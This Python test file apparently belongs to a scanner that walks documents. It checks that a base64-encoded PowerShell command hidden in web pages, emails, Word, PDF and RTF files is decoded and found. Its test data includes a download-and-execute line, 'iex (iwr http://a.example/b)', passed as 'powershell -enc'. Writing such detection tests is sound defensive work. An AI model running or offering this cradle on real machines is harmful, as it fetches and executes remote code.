"""A command that PowerShell takes in base64 is read wherever somebody shows it: in mail, pages, reports."""

import base64

import pytest
from office_files import W, package
from pdf_documents import page

from tqimap.documents.pieces import Text
from tqimap.documents.walk import walk

COMMAND = "iex (iwr http://a.example/b)"
SHOWN = f"Run: powershell -enc {base64.b64encode(COMMAND.encode('utf-16-le')).decode()} now"
DOCUMENT = W.format(f"<w:p><w:r><w:t>{SHOWN}</w:t></w:r></w:p>")
MAIL = "From: a@x.example\nSubject: b\nContent-Type: text/{}\n\n{}\n"


@pytest.mark.parametrize(
    "data",
    [
        f"<p>{SHOWN}</p>".encode(),
        f"<html><pre><span>Run: powershell</span> {SHOWN.partition('powershell ')[2]}</pre>".encode(),
        MAIL.format("plain", SHOWN).encode(),
        MAIL.format("html", f"<p>{SHOWN}").encode(),
        package({"[Content_Types].xml": "", "word/document.xml": DOCUMENT}),
        page(SHOWN),
        rb"{\rtf1 %b}" % SHOWN.encode(),
    ],
    ids=["page", "source", "mail", "page in mail", "docx", "pdf", "rtf"],
)
def test_an_encoded_command_in_prose(data: bytes) -> None:
    told = [step.piece for step in walk(data, "a") if isinstance(step.piece, Text) and COMMAND in step.piece.text]
    assert len(told) == 1 and told[0].spot.endswith("decoded")


def test_backticks_of_markdown_are_no_disguise_of_a_command() -> None:
    mail = MAIL.format("plain", "see `a.example`/`b.example` and `c.example`")
    told = [step.piece.text for step in walk(mail.encode(), "a.eml") if isinstance(step.piece, Text)]
    assert not any("a.example/b.example" in text for text in told)
